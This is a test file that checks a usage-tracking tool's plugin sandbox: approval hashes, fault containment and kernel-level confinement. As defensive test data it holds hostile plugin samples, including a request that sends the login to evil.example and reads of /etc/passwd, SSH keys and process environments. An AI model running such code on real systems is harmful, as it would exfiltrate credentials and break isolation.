"""Plugins: none runs but those that were approved, and whatever one does stays its own misfortune."""

import os
import py_compile
import shutil
import subprocess
import sys
import time
from decimal import Decimal

import msgspec
import plugging
import pytest
import trustme
from conftest import period
from plugging import KEY
from vendors import Answer, World

from vibeusage import cache, cli, gate, plugin, providers
from vibeusage.errors import ConfigError, ShapeError
from vibeusage.models import Balance, PeriodType, ProviderIdentity, UsagePeriod
from vibeusage.plugins import approvals, landlock, manifest, process, reader, seccomp, sources, template
from vibeusage.records import readers, sync
from vibeusage.records.readers.spec import Places
from vibeusage.refresh import refresh

CANARY = "env-canary-nobody-declared"
WEEK = UsagePeriod(name="Weekly", utilization=42.0, period_type=PeriodType.WEEKLY)
SAY = "return plugin.Usage(identity=plugin.ProviderIdentity(plan=str({})))"
@pytest.fixture(autouse=True)
def environment(monkeypatch):
    monkeypatch.setenv("ACME_KEY", KEY)
    monkeypatch.setenv("OTHER_TOKEN", CANARY)


def asked():
    (outcome,) = refresh(["acme"]) or []
    return outcome


def error_of(text):
    plugging.approved(text)
    outcome = asked()
    assert not outcome.success
    return outcome.error


def said_by(body, **said):
    """What a plugin puts into the plan."""
    plugging.approved(plugging.provider(SAY.format(body), **said))
    outcome = asked()
    assert outcome.error is None
    return outcome.snapshot.identity.plan


# --- what one does that is right


def test_its_numbers_are_shown_like_those_of_any_provider():
    body = """
week = plugin.UsagePeriod(name="Weekly", utilization=42, period_type=plugin.PeriodType.WEEKLY)
return plugin.Usage(periods=(week,), balance=plugin.Balance(amount="12.50"))"""
    plugging.approved(plugging.provider(body))
    snapshot = asked().snapshot
    assert (snapshot.source, snapshot.periods) == ("plugin", (WEEK,))
    assert snapshot.balance == Balance(Decimal("12.50"), "USD")
    assert cache.load_snapshot("acme") == snapshot


def test_a_request_goes_to_a_declared_host_with_the_login_that_was_found(monkeypatch):
    body = """
answer = request.get_json("https://api.acme.example/v1/usage?of=me", {"Authorization": f"Bearer {request.login}"})
posted = request.post_json("https://api.acme.example/v1/more", {"a": answer["a"]})
return plugin.Usage(identity=plugin.ProviderIdentity(plan=posted["plan"]))"""
    plugging.approved(plugging.provider(body))
    with World() as world:
        world.on("GET", "api.acme.example", "/v1/usage", Answer(json={"a": 1}))
        world.on("POST", "api.acme.example", "/v1/more", Answer(json={"plan": "Pro"}))
        for name, value in world.environ.items():
            monkeypatch.setenv(name, value)
        assert asked().snapshot.identity == ProviderIdentity(plan="Pro")
    got, posted = world.requests
    assert (got.headers["authorization"], got.query) == (f"Bearer {KEY}", "of=me")
    assert (posted.body, posted.headers["content-type"]) == (b'{"a":1}', "application/json")


@pytest.mark.parametrize(
    ("status", "category"), [(401, "authentication"), (403, "authorization"), (429, "rate_limited"), (404, "parse")]
)
def test_a_refused_request_is_the_error_that_any_provider_would_tell(monkeypatch, status, category):
    plugging.approved(plugging.provider("request.get_json('https://api.acme.example/')"))
    with World() as world:
        world.on("GET", "api.acme.example", "/", Answer(status=status))
        for name, value in world.environ.items():
            monkeypatch.setenv(name, value)
        error = asked().error
    assert error.category == category
    assert error.message.startswith("api.acme.example")
    assert ("acme" in gate.load()["acme"].holds) is False


def test_a_base_url_of_the_settings_takes_the_place_of_the_first_host(monkeypatch, config_dir):
    plugging.approved(plugging.provider("request.get_json('https://api.acme.example/v1')\nreturn plugin.Usage()"))
    (config_dir / "config.toml").write_text('[providers.acme]\nbase_url = "https://proxy.example/acme"\n')
    with World() as world:
        world.on("GET", "proxy.example", "/acme/v1", Answer(json={}))
        for name, value in world.environ.items():
            monkeypatch.setenv(name, value)
        assert asked().error is None


def test_an_error_of_its_own_is_told_in_its_words_but_without_the_login():
    told = error_of(plugging.provider("raise plugin.Forbidden('only administrators see it')"))
    assert (told.category, told.message) == ("authorization", "the plugin acme says: only administrators see it")
    gate.save({})
    assert KEY not in str(error_of(plugging.provider("raise plugin.Unavailable(request.login)")))


def test_a_request_can_be_made_up_to_try_a_plugin():
    asked_for = []

    def ask(method, url, headers, content):
        asked_for.append((method, url, dict(headers), content))
        return b'{"a": 1}' if method == "GET" else b"<html>"

    request = plugin.Request(login=KEY, variables={}, now=None, ask=ask)  # ty: ignore[invalid-argument-type]
    assert request.get_json("https://x.example/") == {"a": 1}
    with pytest.raises(ShapeError):
        request.post_json("https://x.example/", [1])
    assert asked_for[1] == ("POST", "https://x.example/", {"Content-Type": "application/json"}, b"[1]")
    assert KEY not in repr(request)


# --- H1: only what was approved


def test_h1_one_changed_byte_is_not_run_until_it_is_approved_again():
    known = plugging.approved(plugging.provider("open('/dev/null', 'w')"))
    path = sources.file_of("acme")
    path.write_text(path.read_text().replace("/dev/null", "/dev/nu11"))
    error = asked().error
    assert (error.category, error.message) == (
        "configuration",
        "the plugin acme is not what was approved: its code has changed",
    )
    assert "vibeusage plugin enable acme" in error.hint
    plugging.approved(path.read_text())
    assert approvals.load()["acme"].sha256 != known.sha256
    assert "tried to write to /dev/nu11" in asked().error.message


def test_h1_a_raised_version_is_not_run_until_it_is_approved_again():
    plugging.approved(plugging.provider())
    sources.file_of("acme").write_text(plugging.provider(version="1.1"))
    assert asked().error.message == "the plugin acme is not what was approved: version 1.1 in the place of 1.0"


def test_h1_what_is_not_approved_or_is_off_is_no_provider(config_dir):
    path = sources.file_of("acme")
    path.parent.mkdir(mode=0o700, parents=True)
    path.write_text(plugging.provider())
    assert "acme" not in providers.ids()
    known = plugging.approved(plugging.provider())
    assert "acme" in providers.ids()
    assert providers.path("acme") == path
    (config_dir / "plugins.json").chmod(0o666)
    assert "acme" not in providers.ids()
    (config_dir / "plugins.json").chmod(0o600)
    approvals.keep(msgspec.structs.replace(known, enabled=False))
    assert "acme" not in providers.ids()


@pytest.mark.slow
def test_h1_the_line_and_whatever_only_shows_run_none_of_it(vibeusage, line_tsv, capsys):
    """The plugin is nothing but a crash; only a refresh finds that out."""
    plugging.approved(plugging.provider(top="1 / 0"))
    line_tsv(period(account="acme"))
    assert b"42%" in vibeusage("line", "plain").stdout
    for words in (["providers", "show", "acme"], ["auth", "acme", "--status"], ["plugin", "list"], ["doctor"]):
        cli.main(words)
    assert "ZeroDivisionError" not in "".join(capsys.readouterr())
    assert gate.load() == {}
    assert "ZeroDivisionError" in asked().error.message


def test_a_shipped_provider_is_not_taken_over():
    plugging.approved(plugging.provider(id="claude"))
    assert providers.load("claude").name == "Claude"
    assert "claude" not in providers.plugged()


# --- H2: one plugin per fault

FAULTS = {
    "crash at import": (plugging.provider(top="1 / 0"), "failed: ZeroDivisionError at acme.py:4 <module>"),
    "crash": (plugging.provider("return {}['k3y-canary-of-acme']"), "failed: KeyError at acme.py:6 fetch"),
    "os._exit": (plugging.provider("os._exit(7)"), "ended with code 7 and gave nothing"),
    "sys.exit": (plugging.provider("sys.exit(0)"), "failed: SystemExit at acme.py:6 fetch"),
    "sys.exit at import": (plugging.provider(top="sys.exit()"), "failed: SystemExit at acme.py:4 <module>"),
    "recursion": (plugging.provider("return fetch(request)"), "failed: RecursionError at acme.py:6 fetch"),
    "memory": (plugging.provider("return b'x' * (4 << 30)"), "failed: MemoryError at acme.py:6 fetch"),
    "wrong type": (plugging.provider("return 5"), "says: it gave int where Usage belongs"),
    "wrong field": (
        plugging.provider("return plugin.Usage(balance=plugin.Balance(amount='k3y-canary-of-acme'))"),
        "gave what is not understood: Invalid decimal string - at `$.usage.balance.amount`",
    ),
    "not a number": (
        plugging.provider(
            "week = plugin.UsagePeriod(name='W', utilization=float('nan'), period_type='weekly')\n"
            "return plugin.Usage(periods=[week])"
        ),
        "gave a percentage out of range",
    ),
    "huge answer": (plugging.provider(SAY.format("'x' * (2 << 20)")), "gave more than 1 MiB"),
    "garbage": (
        plugging.provider(
            "for fd in range(3, 9):\n    try: os.write(fd, b'\\0\\0\\0\\4junk')\n    except OSError: pass\n"
            "time.sleep(9)"
        ),
        "gave what is not understood: Expected `object`, got `int`",
    ),
    "fork": (plugging.provider("os.fork()"), "tried to start a process, which ended it"),
    "subprocess": (
        plugging.provider(
            "try: __import__('subprocess').run(['true'])\nexcept BaseException: pass\nreturn plugin.Usage()"
        ),
        "tried to start a process, which ended it",
    ),
    "kills": (plugging.provider("os.kill(os.getppid(), 9)"), "tried to send a signal, which ended it"),
    "native code": (plugging.provider("__import__('ctypes').CDLL(None)"), "tried to run native code, which ended it"),
    "socket": (
        plugging.provider("__import__('socket').socket()"),
        "tried to use the network by itself, which ended it",
    ),
    "another host": (
        plugging.provider("request.get_json('https://evil.example/?k=' + request.login)"),
        "tried to reach evil.example, which ended it",
    ),
    "not https": (
        plugging.provider("request.get_json('http://api.acme.example/')"),
        "tried to reach what is no address, which ended it",
    ),
    "a file of the system": (plugging.provider("open('/etc/passwd')"), "tried to open /etc/passwd, which ended it"),
    "a folder": (plugging.provider("os.listdir('/etc')"), "tried to look into /etc, which ended it"),
    "a relative path": (plugging.provider("open('etc/passwd')"), "tried to open etc/passwd, which ended it"),
    "writes": (plugging.provider("open('/tmp/x', 'w')"), "tried to write to /tmp/x, which ended it"),
    "removes": (plugging.provider("os.remove('/tmp/x')"), "tried to change a file, which ended it"),
}


FURTHER = {"sys.exit at import", "memory", "wrong field", "not https", "a folder", "a relative path", "removes"}


@pytest.mark.parametrize(
    ("text", "told"),
    [pytest.param(*fault, id=name, marks=[pytest.mark.slow] * (name in FURTHER)) for name, fault in FAULTS.items()],
)
def test_h2_a_fault_is_contained_and_named(text, told):
    error = error_of(text)
    assert error.message == f"the plugin acme {told}"
    assert KEY not in str(error)


@pytest.fixture
def hurried(config_dir):
    config_dir.mkdir(mode=0o700, exist_ok=True)
    (config_dir / "config.toml").write_text("[fetch]\ntimeout_s = 1\n")


def test_h2_one_that_hangs_and_ignores_signals_is_ended_at_the_deadline(hurried):
    body = """
import signal
for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP, 32, 33}:
    signal.signal(number, signal.SIG_IGN)
while True: pass"""
    began = time.monotonic()
    error = error_of(plugging.provider(body))
    assert error.message == "Acme took longer than 1 s"
    assert time.monotonic() - began < 3
    assert not running(os.getpid())


def test_h2_what_it_prints_goes_nowhere(vibeusage):
    body = "print('flood' * 200_000)\nsys.stderr.write('flood' * 200_000)\nos.write(1, b'flood')\nreturn plugin.Usage()"
    plugging.approved(plugging.provider(body))
    done = vibeusage("refresh", "acme")
    assert b"flood" not in done.stdout + done.stderr
    assert done.returncode == 0


def test_h2_it_takes_no_other_provider_along(monkeypatch):
    plugging.approved(plugging.provider("os._exit(1)"))
    plugging.approved(plugging.provider(id="other", name="Other"))
    assert {one.provider_id: one.success for one in refresh(["acme", "other"]) or []} == {"acme": False, "other": True}


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux has a process that adopts what others leave behind")
def test_h2_children_that_went_to_sessions_of_their_own_are_ended_with_it(tmp_path):
    """By the process that watches alone: nothing of the fence is up here."""
    folder = tmp_path / "numbers"
    folder.mkdir()
    code = f"""
import os, signal, time
from vibeusage.plugins import watch
def work():
    for _ in range(3):
        if os.fork():
            continue
        os.setsid()
        if os.fork():
            os._exit(0)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        open({str(folder)!r} + "/" + str(os.getpid()), "w").close()
        time.sleep(60)
    while len(os.listdir({str(folder)!r})) < 3:
        time.sleep(0.005)
theirs, ours = os.pipe()
os._exit(watch.watched(work, theirs, 9))
"""
    done = subprocess.run([sys.executable, "-c", code], check=False, timeout=20)
    left = [int(name) for name in os.listdir(folder)]
    assert (done.returncode, len(left)) == (0, 3)
    assert not {*left} & living()


def test_h2_it_is_ended_when_we_are_killed():
    plugging.approved(plugging.provider("time.sleep(60)"))
    ours = subprocess.Popen([sys.executable, "-m", "vibeusage", "refresh", "acme"], stderr=subprocess.DEVNULL)
    try:
        wait(lambda: len(running(ours.pid)) == 2)  # the one that watches, and the plugin's
        both = running(ours.pid)
    finally:
        ours.kill()
        ours.wait()
    wait(lambda: not both & living())


def living():
    return {pid for pid, _, _ in processes()}


def running(parent):
    """The processes of plugins that this one has started, by number."""
    found = [(pid, above) for pid, above, args in processes() if "watch.main()" in args]
    watching = {pid for pid, above in found if above == parent}
    return watching | {pid for pid, above in found if above in watching}


def processes():
    listed = subprocess.run(["ps", "-eww", "-o", "pid=,ppid=,stat=,args="], capture_output=True, text=True, check=True)
    rows = [row.split(maxsplit=3) for row in listed.stdout.splitlines()]
    return [(int(row[0]), int(row[1]), row[3]) for row in rows if len(row) == 4 and "Z" not in row[2]]


def wait(is_so):
    end = time.monotonic() + 10
    while not is_so():
        assert time.monotonic() < end
        time.sleep(0.02)


# --- H3: only what was named


def test_h3_its_environment_holds_no_variable_of_ours_nor_its_own():
    names = said_by("dict(os.environ)", variables=["ACME_TEAM"])
    assert CANARY not in names
    assert KEY not in names
    assert "HOME" not in names


def test_h3_it_gets_the_variables_and_the_login_that_it_declared(monkeypatch):
    monkeypatch.setenv("ACME_TEAM", "blue")
    assert said_by("(len(request.login), dict(request.variables))", variables=["ACME_TEAM", "ACME_ZONE"]) == str(
        (len(KEY), {"ACME_TEAM": "blue"})
    )
    gate.save({})
    assert said_by("repr(request.login)", login=False) == "''"


def test_h3_our_credentials_and_its_own_process_are_closed_to_it(config_dir, home):
    folder = config_dir / "credentials" / "claude"
    folder.mkdir(mode=0o700, parents=True)
    (folder / "oauth.json").write_text("{}")
    for path in (folder / "oauth.json", home / ".ssh/id_ed25519", "/proc/self/environ"):
        body = f"try:\n    open({str(path)!r})\nexcept OSError: pass\nreturn plugin.Usage()"
        assert error_of(plugging.provider(body)).message == f"the plugin acme tried to open {path}, which ended it"


def test_h3_a_usage_that_repeats_the_login_is_not_taken():
    assert "repeats the login" in error_of(plugging.provider(SAY.format("request.login"))).message


@pytest.mark.skipif(not landlock.version(), reason="this kernel has no Landlock")
def test_h3_the_kernel_keeps_it_from_files_without_python_too(config_dir, tmp_path):
    """As native code sees it: the audit hook is not up here."""
    (tmp_path / "secret").write_text("x")
    code = f"""
import json, socket, sys
from vibeusage.plugins import landlock
assert landlock.restrict(["/usr", "/lib", sys.prefix, sys.base_prefix])
def tried(what):
    try: what()
    except OSError as exc: return type(exc).__name__
    return "done"
print(tried(lambda: open({str(tmp_path)!r} + "/secret")), tried(lambda: open({str(tmp_path)!r} + "/new", "w")),
      tried(lambda: open(json.__file__)))
if landlock.version() >= 4:
    assert tried(lambda: socket.create_connection(("127.0.0.1", 9))) == "PermissionError"
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.split() == ["PermissionError", "PermissionError", "done"]


@pytest.mark.skipif(not seccomp.program(), reason="there is no filter for this machine")
def test_h2_the_kernel_keeps_it_from_processes_and_sockets_without_python_too():
    code = """
import os, socket, subprocess
from vibeusage.plugins import seccomp
assert seccomp.restrict()
for what in (os.fork, socket.socket, lambda: subprocess.run(["true"]), lambda: os.kill(os.getppid(), 0),
             lambda: os.execv("/bin/true", ["true"])):
    try: what()
    except PermissionError: continue
    raise SystemExit(f"{what} was done")
open("/dev/null").close()
"""
    subprocess.run([sys.executable, "-c", code], check=True)


@pytest.mark.skipif(not landlock.version() or not seccomp.program(), reason="this kernel keeps nothing in")
def test_h3_what_python_does_not_hear_of_the_kernel_refuses(tmp_path):
    trustme.CA().cert_pem.write_to_path(str(tmp_path / "ca.pem"))
    opens = f"__import__('ssl').SSLContext().load_verify_locations({str(tmp_path / 'ca.pem')!r})"
    signals = "__import__('signal').pidfd_send_signal(os.pidfd_open(os.getpid()), 0)"
    for body in (opens, signals):
        assert error_of(plugging.provider(body)).message == "the plugin acme failed: PermissionError at acme.py:6 fetch"


def test_h3_the_folder_that_somebody_is_in_is_closed_to_it(tmp_path, monkeypatch):
    (tmp_path / "project").mkdir()
    (tmp_path / "project/.env").write_text("SECRET=1")
    monkeypatch.chdir(tmp_path / "project")
    monkeypatch.syspath_prepend(str(tmp_path / "project"))  # as `python -m` does
    path = tmp_path / "project/.env"
    assert error_of(plugging.provider(f"open({str(path)!r})")).message == (
        f"the plugin acme tried to open {path}, which ended it"
    )


# --- what it says of itself


@pytest.mark.parametrize(
    ("text", "told"),
    [
        pytest.param("def fetch(request): pass", "one PLUGIN", id="no PLUGIN"),
        pytest.param("PLUGIN = {\n", "is not Python, line 1", id="no Python"),
        pytest.param("PLUGIN = dict(api=1)", "has to be a literal", id="worked out"),
        pytest.param(plugging.provider(api=2), "Invalid enum value 2", id="another API"),
        pytest.param(plugging.provider(colour="red"), "unknown field `colour`", id="a key that is none"),
        pytest.param(plugging.provider(id="../x"), "$.id", id="a path for an id"),
        pytest.param(plugging.provider(hosts=["https://x.example"]), "$.hosts", id="an address for a host"),
        pytest.param(plugging.provider(name="a\nb"), "$.name", id="two lines for a name"),
        pytest.param(plugging.provider().replace("def fetch", "async def fetch"), "a plain `def`", id="a coroutine"),
        pytest.param(plugging.reader("yield", roots=[]), "which folders", id="a reader without roots"),
        pytest.param(plugging.reader("yield", roots=["~/"]), "$.roots", id="the home"),
        pytest.param(plugging.reader("yield", roots=["/home/../"]), "more than logs", id="everything"),
        pytest.param(plugging.reader("yield", roots=["~/.ssh"]), "more than logs", id="logins"),
        pytest.param(plugging.reader("yield", files="../*"), "pattern below", id="a pattern that leads out"),
        pytest.param(plugging.reader("yield", env=["X"]), "has no env", id="a reader with variables"),
    ],
)
def test_a_mistake_is_told_without_running_a_line(text, told):
    with pytest.raises(ConfigError, match=r"acme\.py") as failed:
        manifest.read(f"{text}\nraise SystemExit(9)".encode(), "acme.py")
    assert told in str(failed.value)


@pytest.mark.parametrize("kind", ["provider", "reader"])
def test_the_template_is_a_plugin(kind):
    said = manifest.read(template.text(kind, "my-tool").encode(), "my-tool.py")
    assert (said.kind, said.id, said.name) == (kind, "my-tool", "My Tool")


def test_the_template_asks_as_it_says(monkeypatch):
    plugging.approved(template.text("provider", "acme"))
    monkeypatch.setenv("ACME_API_KEY", KEY)
    answer = {"week": {"percent_used": 41.5, "resets_at": "2030-01-07T00:00:00Z"}, "plan": "Pro"}
    with World() as world:
        world.on("GET", "api.acme.example", "/v1/usage", Answer(json=answer))
        for name, value in world.environ.items():
            monkeypatch.setenv(name, value)
        snapshot = asked().snapshot
    assert (snapshot.periods[0].utilization, snapshot.identity.plan) == (41.5, "Pro")


# --- distributions


@pytest.fixture
def site(tmp_path, monkeypatch):
    """A folder of installed distributions, before all others."""
    folder = tmp_path / "site"
    folder.mkdir()
    monkeypatch.syspath_prepend(folder)
    return folder


def offered():
    return [each for each in sources.offered() if not isinstance(each, ConfigError)]


def test_a_distribution_is_found_approved_and_run_without_being_imported_here(site):
    text = plugging.provider(SAY.format("numbers.WEEK"), top="from acme_vibeusage import numbers")
    package = plugging.distribution(site, text)
    (found,) = offered()
    known = found.approval
    assert (known.id, known.name, known.version) == ("acme", "acme-vibeusage", "2.0")
    assert known.module == "acme_vibeusage.quota"
    assert "acme" not in providers.ids()
    approvals.keep(known)
    assert asked().snapshot.identity.plan == "12.5"
    assert providers.path("acme") == package / "quota.py"
    assert not [name for name in sys.modules if name.startswith("acme_vibeusage")]


@pytest.mark.parametrize("file", ["numbers.py", "quota.py", "../acme_vibeusage-2.0.dist-info/METADATA"])
def test_h1_one_changed_byte_in_any_file_of_a_distribution_is_not_run(site, file):
    package = plugging.distribution(site, plugging.provider(top="1 / 0"))
    approvals.keep(offered()[0].approval)
    path = package / file
    path.write_text(path.read_text().replace("12.5", "12.6").replace("Acme", "acme") + "\n")
    assert asked().error.message == "the plugin acme is not what was approved: its code has changed"


def test_h1_bytecode_that_was_put_beside_the_source_is_not_taken(site):
    package = plugging.distribution(site, plugging.provider(SAY.format("numbers.WEEK"), top="from . import numbers"))
    approvals.keep(offered()[0].approval)
    true = (package / "numbers.py").read_text()
    stamp = (package / "numbers.py").stat()
    (package / "numbers.py").write_text(true.replace("12.5", "99.9"))
    os.utime(package / "numbers.py", ns=(stamp.st_atime_ns, stamp.st_mtime_ns))
    py_compile.compile(str(package / "numbers.py"), doraise=True)
    (package / "numbers.py").write_text(true)
    os.utime(package / "numbers.py", ns=(stamp.st_atime_ns, stamp.st_mtime_ns))
    assert asked().snapshot.identity.plan == "12.5"


def test_h1_another_module_of_that_name_is_not_taken(site, tmp_path, monkeypatch):
    plugging.distribution(site, plugging.provider(SAY.format("'true'")))
    approvals.keep(offered()[0].approval)
    plugging.distribution(tmp_path / "first/site-packages", plugging.provider(SAY.format("'false'")), name="other")
    monkeypatch.syspath_prepend(tmp_path / "first/site-packages")
    assert asked().snapshot.identity.plan == "true"


def test_a_distribution_that_is_gone_or_has_no_plugin_is_told(site):
    package = plugging.distribution(site, plugging.provider())
    approvals.keep(offered()[0].approval)
    (package / "quota.py").write_text("import os\n")
    assert ["one PLUGIN" in str(each) for each in sources.offered()] == [True]
    shutil.rmtree(next(site.glob("*.dist-info")))
    assert asked().error.message == "acme-vibeusage is not installed any more"


# --- readers

LINE = '{"id": "%s", "ts": 1767225600000, "n": %d}\n'
CLAUDE = b'{"type":"assistant"}\n'
READ = """
for line in log.body.splitlines():
    row = json.loads(line)
    yield plugin.Call(uuid=row["id"], ts=row["ts"], session=log.path.stem, model="acme-1", output=row["n"])"""


@pytest.fixture
def synced(home, tmp_path):
    """A sync of all readers, and what it says of those that have files."""

    def run(*lines, name="a.jsonl"):
        folder = home / "logs"
        folder.mkdir(exist_ok=True)
        if lines:
            (folder / name).write_text("".join(lines))
        places = Places(environ={}, home=home, platform="linux")
        result = sync.run(readers.every(), places, path=tmp_path / "data" / "usage.db", machine="here")
        return {each.provider: each for each in result.providers if each.files} if result else {}

    return run


def errors(result):
    return [each.error for each in result["acme"].errors]


@pytest.mark.parametrize("form", ["document", "lines"])
def test_a_reader_gives_calls_and_is_given_each_log_once(synced, form):
    plugging.approved(plugging.reader(READ, top="import json", form=form))
    first = synced(LINE % ("a", 5), LINE % ("b", 6))["acme"]
    assert (first.added, first.errors, first.read) == (2, [], 1)
    assert (synced()["acme"].read, synced()["acme"].unchanged) == (0, 1)
    assert synced(LINE % ("a", 5), LINE % ("b", 6), LINE % ("c", 7))["acme"].added == 1


def test_many_logs_are_read_by_one_process(synced, home, monkeypatch):
    plugging.approved(plugging.reader(READ, top="import json"))
    started = []
    real = process.command
    monkeypatch.setattr(process, "command", lambda *args: started.append(args) or real(*args))
    (home / "logs").mkdir()
    for n in range(5):
        (home / "logs" / f"{n}.jsonl").write_text(LINE % (n, 1))
    assert synced()["acme"].added == 5
    assert len(started) == 1
    assert not running(os.getpid())


@pytest.mark.parametrize(
    ("body", "told"),
    [
        pytest.param("1 / 0", "the plugin acme failed: ZeroDivisionError at acme.py:6 read", id="crash"),
        pytest.param("return 5", "the plugin acme failed: TypeError", id="nothing to go through"),
        pytest.param("return [5]", "the plugin acme does not understand it (parse)", id="no call"),
        pytest.param(
            "return [plugin.Call(uuid='a', ts=1767225600000, output=-1)]",
            "the plugin acme gave a call that cannot be one",
            id="less than nothing",
        ),
        pytest.param(
            "return [plugin.Call(uuid='a', ts=1767225600000, data={'text': 'private'})]",
            "the plugin acme gave a call that cannot be one",
            id="more than numbers",
        ),
    ],
)
def test_h2_what_a_reader_does_wrong_with_a_log_is_remembered_with_that_log(synced, body, told):
    plugging.approved(plugging.reader(body))
    assert errors(synced("x\n")) == [told]
    assert errors(synced()) == []  # until the log or the plugin changes


@pytest.mark.slow
@pytest.mark.parametrize(
    ("body", "told"),
    [
        pytest.param("os._exit(3)", "the plugin acme ended with code 3 and gave nothing", id="exit"),
        pytest.param("os.kill(os.getpid(), 9)", "the plugin acme tried to send a signal, which ended it", id="signal"),
        pytest.param("open(log.path)", "the plugin acme tried to open {home}/logs/a.jsonl, which ended it", id="opens"),
        pytest.param("time.sleep(60)", "the plugin acme took longer than 0.5 s and was ended", id="hang"),
        pytest.param(
            "while True: yield plugin.Call(uuid='a' * 200, ts=1767225600000)",
            "the plugin acme gave more than 1 MiB",
            id="flood",
        ),
    ],
)
def test_h2_a_reader_that_fails_itself_is_told_once_and_leaves_the_logs_of_others_whole(
    synced, home, monkeypatch, body, told
):
    monkeypatch.setattr(reader, "SECONDS", 0.5)
    plugging.approved(plugging.reader(body))
    claude = home / ".claude/projects/p/s.jsonl"
    claude.parent.mkdir(parents=True)
    claude.write_bytes(CLAUDE)
    (home / "logs").mkdir()
    for name in ("b.jsonl", "c.jsonl", "d.jsonl", "e.jsonl"):
        (home / "logs" / name).write_text("x\n")
        os.utime(home / "logs" / name, (2e9, 2e9))
    result = synced("x\n")
    assert errors(result) == [told.replace("{home}", str(home))]
    assert result["acme"].skipped == {"left for later": 5}
    assert (result["claude"].files, result["claude"].errors) == (1, [])


def test_h1_a_changed_reader_reads_nothing(synced):
    plugging.approved(plugging.reader(READ, top="import json"))
    path = sources.file_of("acme")
    path.write_text(path.read_text() + "\n")
    result = synced(LINE % ("a", 5))
    assert errors(result) == ["the plugin acme is not what was approved: its code has changed"]
    assert result["acme"].added == 0
    plugging.approved(path.read_text())
    assert synced()["acme"].added == 1


def test_h3_logins_below_its_roots_are_not_given_to_a_reader(synced, home):
    plugging.approved(plugging.reader(READ, top="import json", files="*"))
    (home / "logs").mkdir()
    for name in ("logs/.credentials.json", "logs/auth.json", "logs/cert.pem"):
        (home / name).write_text("secret")
    result = synced(LINE % ("a", 5))["acme"]
    assert (result.files, result.added, result.errors) == (1, 1, [])
